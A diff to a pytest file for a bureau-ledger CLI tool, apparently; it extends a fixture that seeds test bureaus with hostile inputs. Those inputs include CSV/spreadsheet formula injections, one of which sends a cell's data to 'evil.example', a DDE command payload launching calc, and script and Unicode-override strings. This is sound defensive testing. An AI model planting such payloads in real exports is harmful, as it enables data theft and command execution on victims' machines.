@@ -20,6 +20,11 @@ from click.testing import CliRunner
 from bureaukit.cli import main
 
 BASE = Path(__file__).resolve().parent / "bad_inputs" / "base"
+DEMO = Path(__file__).resolve().parent.parent / "configs" / "demo"
+BASES = {  # folder, its conduct problems ledger, its bureau name line
+    "base": (BASE, "ledgers/problems.csv", 'name = "坏输入测试局"'),
+    "demo": (DEMO, "ledgers/conduct/problems.csv", 'name = "示例区交通运输局"'),
+}
 CHROMIUM = Path("/usr/bin/chromium")
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(A1:A9)",
@@ -48,10 +53,15 @@ def _rewrite(path: Path, fn: object) -> None:
     path.write_text(buf.getvalue(), encoding="utf-8")
 
 
-@pytest.fixture(scope="module")
-def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
+@pytest.fixture(scope="module", params=sorted(BASES))
+def hostile(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """The small base bureau, and the demo with all five campaigns, with hostile text."""
+    folder, problems, name_line = BASES[request.param]
+    if request.param == "demo":
+        for name in ("investment", "publicity", "wubi", "style", "conduct"):
+            pytest.importorskip(f"bureaukit_{name}")
     root = tmp_path_factory.mktemp("hostile") / "b"
-    shutil.copytree(BASE, root)
+    shutil.copytree(folder, root)
     _rewrite(root / "org" / "units.csv", lambda r: [r[0], UNIT_NAMES.get(r[0], r[1]), *r[2:]])
     _rewrite(root / "org" / "people.csv", lambda r: [r[0], PERSON_NAMES.get(r[0], r[1]), *r[2:]])
     header = "编号,单位,整治领域,问题描述,领衔领导,责任部门,整改时限,问题查清,措施落实,整改到位,责任追究到位,群众满意,销号日期"
@@ -62,9 +72,10 @@ def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
         closed = "2014-06-25" if i % 2 else ""
         w.writerow([pid, ["office", "ygs", "ygs_n"][i % 3], HTML[0], desc, "p01", "", "2014-06-30",
                     "是", "是", "是", "是", "是", closed])
-    (root / "ledgers" / "problems.csv").write_text(buf.getvalue(), encoding="utf-8")
+    (root / problems).write_text(buf.getvalue(), encoding="utf-8")
     toml = (root / "bureau.toml").read_text(encoding="utf-8")
-    toml = toml.replace('name = "坏输入测试局"', 'name = "=HYPERLINK(\\"http://x\\") <script>alert(1)</script> \\u202e局"')
+    assert name_line in toml
+    toml = toml.replace(name_line, 'name = "=HYPERLINK(\\"http://x\\") <script>alert(1)</script> \\u202e局"')
     (root / "bureau.toml").write_text(toml, encoding="utf-8")
     return root
 
